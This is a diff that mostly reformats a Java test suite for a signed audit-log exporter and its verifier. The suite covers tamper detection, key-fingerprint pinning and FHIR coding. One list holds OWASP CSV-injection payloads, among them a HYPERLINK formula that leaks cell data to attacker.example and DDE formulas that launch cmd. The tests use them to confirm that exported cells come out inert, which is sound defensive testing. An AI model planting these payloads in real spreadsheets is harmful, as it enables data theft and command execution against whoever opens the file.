@@ -19,10 +19,10 @@ import java.util.List;
 import java.util.Map;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.EnumSource;
-import org.junit.jupiter.api.Test;
 import tools.jackson.databind.JsonNode;
 import tools.jackson.databind.json.JsonMapper;
 
@@ -96,8 +96,11 @@ class ExportTests {
             }
             byte[] flipped = bytes.clone();
             flipped[i] = (byte) (flipped[i] == 'a' ? 'b' : flipped[i] ^ 0x01);
-            Verification result = ExportVerifier.verify(new StringReader(new String(flipped, StandardCharsets.UTF_8)), trusted());
-            assertThat(result.valid()).as("byte %d of %d (%s) flipped: %s", i, bytes.length, format, result).isFalse();
+            Verification result =
+                    ExportVerifier.verify(new StringReader(new String(flipped, StandardCharsets.UTF_8)), trusted());
+            assertThat(result.valid())
+                    .as("byte %d of %d (%s) flipped: %s", i, bytes.length, format, result)
+                    .isFalse();
             assertThat(result.problem()).isNotBlank();
             checked++;
         }
@@ -106,7 +109,8 @@ class ExportTests {
 
     @Test
     void aChangedRecordIsNamedBySequence() throws Exception {
-        String file = export(ExportFormat.NDJSON, 12, 17).replace("\"correlationId\\\":\\\"c-14\\\"", "\"correlationId\\\":\\\"c-99\\\"");
+        String file = export(ExportFormat.NDJSON, 12, 17)
+                .replace("\"correlationId\\\":\\\"c-14\\\"", "\"correlationId\\\":\\\"c-99\\\"");
         Verification result = ExportVerifier.verify(new StringReader(file), trusted());
         assertThat(result.valid()).isFalse();
         assertThat(result.firstBadSequence()).isEqualTo(14);
@@ -116,35 +120,60 @@ class ExportTests {
     @Test
     void anotherKeyProvesNothing() throws Exception {
         var stranger = SigningKeys.generatedIn(keys.resolve("stranger"));
-        Verification result = ExportVerifier.verify(new StringReader(export(ExportFormat.NDJSON, 12, 17)),
-                Map.of(stranger.keyId(), stranger.publicKey()));
+        Verification result = ExportVerifier.verify(
+                new StringReader(export(ExportFormat.NDJSON, 12, 17)), Map.of(stranger.keyId(), stranger.publicKey()));
         assertThat(result.valid()).isFalse();
         assertThat(result.problem()).isEqualTo("anchor-invalid");
     }
 
     @Test
     void fhirAuditEventsFollowBalpCoding() throws Exception {
-        String line = export(ExportFormat.FHIR_NDJSON, 1, 5).lines().filter(l -> l.contains("\"AuditEvent\"")).findFirst().orElseThrow();
+        String line = export(ExportFormat.FHIR_NDJSON, 1, 5)
+                .lines()
+                .filter(l -> l.contains("\"AuditEvent\""))
+                .findFirst()
+                .orElseThrow();
         JsonNode event = JsonMapper.builder().build().readTree(line);
-        assertThat(event.get("type").get("system").asString()).isEqualTo("http://dicom.nema.org/resources/ontology/DCM");
+        assertThat(event.get("type").get("system").asString())
+                .isEqualTo("http://dicom.nema.org/resources/ontology/DCM");
         assertThat(event.get("action").asString()).isEqualTo("U");
         assertThat(event.get("outcome").asString()).isEqualTo("0");
-        assertThat(event.get("purposeOfEvent").get(0).get("coding").get(0).get("code").asString()).isEqualTo("TREAT");
+        assertThat(event.get("purposeOfEvent")
+                        .get(0)
+                        .get("coding")
+                        .get(0)
+                        .get("code")
+                        .asString())
+                .isEqualTo("TREAT");
         assertThat(event.get("agent").get(0).get("requestor").asBoolean()).isTrue();
-        assertThat(event.get("source").get("type").get(0).get("code").asString()).isEqualTo("4");
+        assertThat(event.get("source").get("type").get(0).get("code").asString())
+                .isEqualTo("4");
         assertThat(event.get("entity")).hasSize(2);
     }
 
     /** OWASP's CSV-injection payloads, as an agent can send them in a refused call's dataset and purpose. */
-    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted");
+    static final List<String> FORMULAS = List.of(
+            "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+9)*cmd|' /C calc'!A0",
+            "\t=1+1",
+            "\r=1+1",
+            "'=already quoted");
 
     @Test
     void formulaCellsComeOutInertAndTheExportStillVerifiesAsDoOlderExports() throws Exception {
         for (String formula : FORMULAS) {
-            log.append(AuditEvent.builder("gateway.decision", AuditActor.agent(formula, null), new AuditTarget("tool", "text-search"))
-                    .agent(formula).dataset(formula).purposeOfUse(formula).tool("text-search").decision("DENY")
-                    .reason("INVALID_REQUEST").outcome(io.warden.audit.Outcome.MINOR_FAILURE).build());
+            log.append(AuditEvent.builder(
+                            "gateway.decision", AuditActor.agent(formula, null), new AuditTarget("tool", "text-search"))
+                    .agent(formula)
+                    .dataset(formula)
+                    .purposeOfUse(formula)
+                    .tool("text-search")
+                    .decision("DENY")
+                    .reason("INVALID_REQUEST")
+                    .outcome(io.warden.audit.Outcome.MINOR_FAILURE)
+                    .build());
         }
         String csv = export(ExportFormat.CSV, 1, 25 + FORMULAS.size());
         for (String formula : FORMULAS) {
@@ -156,8 +185,13 @@ class ExportTests {
         for (String line : csv.split("\r\n")) {
             for (String cell : line.split(",", -1)) {
                 String value = cell.startsWith("\"") ? cell.substring(1) : cell;
-                assertThat(value).as("a cell of: %s", line).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("@")
-                        .doesNotStartWith("\t").doesNotStartWith("\r");
+                assertThat(value)
+                        .as("a cell of: %s", line)
+                        .doesNotStartWith("=")
+                        .doesNotStartWith("+")
+                        .doesNotStartWith("@")
+                        .doesNotStartWith("\t")
+                        .doesNotStartWith("\r");
             }
         }
         Verification result = ExportVerifier.verify(new StringReader(csv), trusted());
@@ -182,19 +216,27 @@ class ExportTests {
         Files.writeString(file, export(ExportFormat.CSV, 3, 9));
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         ByteArrayOutputStream err = new ByteArrayOutputStream();
-        int status = ExportVerifier.run(new String[] {"--public-key", publicKey.toString(), file.toString()},
-                new PrintStream(out), new PrintStream(err));
+        int status = ExportVerifier.run(
+                new String[] {"--public-key", publicKey.toString(), file.toString()},
+                new PrintStream(out),
+                new PrintStream(err));
         assertThat(status).as(err.toString()).isZero();
         assertThat(out.toString()).startsWith("VALID");
 
         Files.writeString(file, Files.readString(file).replace("PERMIT", "PERMIX"));
         out.reset();
-        status = ExportVerifier.run(new String[] {"--public-key", publicKey.toString(), file.toString()},
-                new PrintStream(out), new PrintStream(err));
+        status = ExportVerifier.run(
+                new String[] {"--public-key", publicKey.toString(), file.toString()},
+                new PrintStream(out),
+                new PrintStream(err));
         assertThat(status).isEqualTo(1);
-        assertThat(out.toString()).startsWith("INVALID at sequence").doesNotContain("Exception").doesNotContain("\tat ");
+        assertThat(out.toString())
+                .startsWith("INVALID at sequence")
+                .doesNotContain("Exception")
+                .doesNotContain("\tat ");
 
-        assertThat(ExportVerifier.run(new String[] {file.toString()}, new PrintStream(out), new PrintStream(err))).isEqualTo(2);
+        assertThat(ExportVerifier.run(new String[] {file.toString()}, new PrintStream(out), new PrintStream(err)))
+                .isEqualTo(2);
     }
 
     /** Threat: a key planted where the auditor fetches keys; only a pinned fingerprint decides what is trusted. */
@@ -203,40 +245,59 @@ class ExportTests {
         Path publicKey = keys.resolve("audit-signing-key.pub.pem");
         Path file = keys.resolve("export.ndjson");
         Files.writeString(file, export(ExportFormat.NDJSON, 1, 25));
-        String wrong = SigningKeys.fingerprint(SigningKeys.generatedIn(keys.resolve("stranger")).publicKey());
+        String wrong = SigningKeys.fingerprint(
+                SigningKeys.generatedIn(keys.resolve("stranger")).publicKey());
 
         ByteArrayOutputStream out = new ByteArrayOutputStream();
         ByteArrayOutputStream err = new ByteArrayOutputStream();
-        int status = ExportVerifier.run(new String[] {"--trust", wrong, "--public-key", publicKey.toString(), file.toString()},
-                new PrintStream(out), new PrintStream(err));
+        int status = ExportVerifier.run(
+                new String[] {"--trust", wrong, "--public-key", publicKey.toString(), file.toString()},
+                new PrintStream(out),
+                new PrintStream(err));
         assertThat(status).isEqualTo(1);
         assertThat(out.toString()).startsWith("INVALID").contains("pinned");
 
         out.reset();
         err.reset();
-        status = ExportVerifier.run(new String[] {"--trust", SigningKeys.fingerprint(key.publicKey()).toUpperCase(java.util.Locale.ROOT)
-                .replace("SHA256:", "sha256:"), "--public-key", publicKey.toString(), file.toString()},
-                new PrintStream(out), new PrintStream(err));
+        status = ExportVerifier.run(
+                new String[] {
+                    "--trust",
+                    SigningKeys.fingerprint(key.publicKey())
+                            .toUpperCase(java.util.Locale.ROOT)
+                            .replace("SHA256:", "sha256:"),
+                    "--public-key",
+                    publicKey.toString(),
+                    file.toString()
+                },
+                new PrintStream(out),
+                new PrintStream(err));
         assertThat(status).as(err.toString()).isZero();
         assertThat(out.toString()).startsWith("VALID");
         assertThat(err.toString()).doesNotContain("WARNING");
 
         out.reset();
         err.reset();
-        status = ExportVerifier.run(new String[] {"--public-key", publicKey.toString(), file.toString()},
-                new PrintStream(out), new PrintStream(err));
+        status = ExportVerifier.run(
+                new String[] {"--public-key", publicKey.toString(), file.toString()},
+                new PrintStream(out),
+                new PrintStream(err));
         assertThat(status).isZero();
         assertThat(err.toString()).contains("WARNING: no key fingerprint was pinned");
 
         err.reset();
-        assertThat(ExportVerifier.run(new String[] {"--trust", "sha1:abc", "--public-key", publicKey.toString(), file.toString()},
-                new PrintStream(out), new PrintStream(err))).isEqualTo(2);
+        assertThat(ExportVerifier.run(
+                        new String[] {"--trust", "sha1:abc", "--public-key", publicKey.toString(), file.toString()},
+                        new PrintStream(out),
+                        new PrintStream(err)))
+                .isEqualTo(2);
         assertThat(err.toString()).contains("--trust");
     }
 
     @Test
     void theFingerprintIsTheSha256OfTheSpkiDer() throws Exception {
-        byte[] digest = java.security.MessageDigest.getInstance("SHA-256").digest(key.publicKey().getEncoded());
-        assertThat(SigningKeys.fingerprint(key.publicKey())).isEqualTo("sha256:" + java.util.HexFormat.of().formatHex(digest));
+        byte[] digest = java.security.MessageDigest.getInstance("SHA-256")
+                .digest(key.publicKey().getEncoded());
+        assertThat(SigningKeys.fingerprint(key.publicKey()))
+                .isEqualTo("sha256:" + java.util.HexFormat.of().formatHex(digest));
     }
 }
